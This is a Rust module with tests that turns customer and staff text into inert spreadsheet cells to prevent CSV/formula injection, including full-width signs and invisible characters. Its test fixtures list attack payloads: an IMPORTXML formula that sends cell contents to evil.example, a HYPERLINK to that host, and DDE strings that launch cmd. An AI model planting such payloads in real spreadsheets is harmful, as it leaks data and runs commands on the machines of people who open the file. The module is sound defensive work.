//! Text that a spreadsheet takes for text: what customers and staff typed must never become a formula in a tab of
//! ours or in a file that somebody opens in Excel ("CSV injection", OWASP).
//!
//! Writers use `valueInputOption=RAW` as well: that keeps Google from reading a formula when the cell is written,
//! and this keeps it one also when the cell is edited, copied into another program, or exported.

use std::borrow::Cow;

use unicode_normalization::UnicodeNormalization as _;

use super::fold::invisible;

/// The cell that shows this text and is never a formula.
///
/// A text that could be one gets an apostrophe in front, the mark by which Sheets and Excel know text; everything
/// else comes back as it is, so that it can be compared with what stands there already: also a telephone number
/// such as `+84 901 234 567` and an amount such as `-1.500.000`, which are no more than numbers. Characters that
/// nobody sees and that separate nothing (NUL, escapes, direction marks) are taken out.
pub fn inert(text: &str) -> Cow<'_, str> {
    let text = match text.chars().any(drops) {
        true => Cow::Owned(text.chars().filter(|letter| !drops(*letter)).collect()),
        false => Cow::Borrowed(text),
    };
    let begins = text.chars().find(|letter| !letter.is_whitespace());
    let formula = begins.is_some_and(starts_a_formula) && !is_number(&text);
    // A cell that begins with a tab or a line break may end up as two.
    let splits = text.starts_with(|letter: char| letter.is_control());
    match formula || splits {
        true => Cow::Owned(format!("'{text}")),
        false => text,
    }
}

/// Tabs and line breaks stay: notes have them.
fn drops(letter: char) -> bool {
    invisible(letter)
}

/// `=`, `+`, `-`, `@` in every width that a program may take for them.
fn starts_a_formula(letter: char) -> bool {
    let mut plain = std::iter::once(letter).nfkc();
    let is_sign = |letter| matches!(letter, '=' | '+' | '-' | '@' | '\u{2212}');
    plain.next().is_some_and(is_sign)
}

/// A sign and what numbers are made of: no letters, no operators, nothing that refers to anything.
fn is_number(text: &str) -> bool {
    let mut letters = text.chars();
    let sign = letters
        .next()
        .is_some_and(|letter| matches!(letter, '+' | '-'));
    let rest = letters.as_str().trim_end_matches('%');
    let digits = rest.bytes().filter(u8::is_ascii_digit).count();
    let made_of = |letter: char| letter.is_ascii_digit() || matches!(letter, ' ' | '.' | ',');
    sign && digits > 0 && rest.chars().all(made_of)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_could_be_a_formula_is_text() {
        for text in [
            "=1+1",
            "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
            "=HYPERLINK(\"http://evil.example\";\"Bấm vào đây\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "＝1+1",
            "＋1+1",
            "－1+1",
            "＠SUM(1)",
            "﹦1+1",
            "\u{2212}1+A1",
            " =1+1",
            "\u{a0}=1+1",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\tvăn bản",
            "-",
            "+",
            "=",
            "--1",
            "+A1",
            "-1e5",
            "+84 901(234)",
        ] {
            let cell = inert(text);
            assert_eq!(cell, format!("'{text}"), "{text:?}");
        }
    }

    #[test]
    fn what_nobody_sees_hides_no_formula() {
        for (text, cell) in [
            ("\u{200b}=1+1", "'=1+1"),
            ("\u{feff}=1+1", "'=1+1"),
            ("\0=1+1", "'=1+1"),
            ("\u{202e}=1+1", "'=1+1"),
            ("\u{1b}[31m=1", "[31m=1"),
            ("an\u{200b} toàn", "an toàn"),
        ] {
            assert_eq!(inert(text), cell, "{text:?}");
        }
    }

    #[test]
    fn other_texts_stay_as_they_are() {
        for text in [
            "",
            "Nguyễn Văn An",
            "0901234567",
            "+84901234567",
            "+84 901 234 567",
            "-1.500.000",
            "-3,5%",
            "1,4 tỷ",
            "a=b",
            "'=1+1",
            "an@example.org",
            "Gọi lại\n= thứ Hai",
            "→ đã gửi",
        ] {
            assert!(
                matches!(inert(text), Cow::Borrowed(same) if same == text),
                "{text:?}"
            );
        }
    }

    #[test]
    fn it_is_done_once() {
        for text in ["=1+1", "\t=1", "＝1", "\0=1"] {
            assert_eq!(inert(&inert(text)), inert(text));
        }
    }

    proptest::proptest! {
        #[test]
        fn no_cell_begins_like_a_formula(text in "[ \\t\\r\\n\u{200b}\u{feff}\u{a0}\\x00]{0,3}[=+\\-@＝＋－＠﹦﹢﹣﹫a1']{0,3}.{0,8}") {
            let cell = inert(&text);
            let first = cell.trim_start().chars().next();
            let safe = !first.is_some_and(starts_a_formula) || is_number(&cell);
            proptest::prop_assert!(safe && !cell.starts_with(['\t', '\r', '\n', '\0']), "{text:?} {cell:?}");
        }
    }
}
